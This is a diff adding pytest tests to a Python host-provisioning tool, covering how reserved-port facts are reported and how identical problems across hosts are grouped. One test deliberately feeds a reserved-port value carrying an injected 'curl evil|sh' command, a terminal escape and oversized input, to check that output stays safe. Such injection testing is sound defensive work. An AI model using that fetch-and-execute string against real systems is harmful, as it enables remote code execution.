@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from provision.alike import folded
 from provision.host import connection_ports, facts
 from provision.host.facts import HostFacts, Probe
 from provision.inventory.resolved import Machine
@@ -70,6 +71,27 @@ def test_a_host_with_a_wider_range() -> None:
     one = what.format("2380", "it", "1-4,2379,2380", "another port")
     assert said(host("1024 65535", "1-4,2379"), 2379, 2380) == [one]
     assert said(host("1024 65535", "2379-2380"), 2379, 2380) == []
+
+
+def test_what_a_host_says_is_no_command() -> None:
+    hostile = host("1 65535", "1;curl evil|sh #,22-33\x1b[2J" + "9" * 5000)
+    assert all("curl" not in text and len(text) < 8000 for text in said(hostile, 2379))
+    assert said(host("1 " + "9" * 5000), 2379) == []
+
+
+def test_hosts_with_other_ports_are_not_one_line() -> None:
+    """The command of one would take what another host has reserved."""
+
+    def shown(*reserved: str) -> list[str]:
+        machines = [Machine(f"h{n}", where=f"inventory.yml:{n}") for n in range(len(reserved))]
+        facts_ = {m: host("1 65535", r) for m, r in zip(machines, reserved, strict=True)}
+        probes = dict.fromkeys(machines, Probe(ports=[2379]))
+        return [
+            p.where.partition(":")[0] for p in folded(connection_ports.problems(facts_, probes))
+        ]
+
+    assert shown(*["80"] * 5) == ["5 hosts"]
+    assert len(shown("80", "81", "82", "83", "84")) == 5
 
 
 @pytest.mark.parametrize(
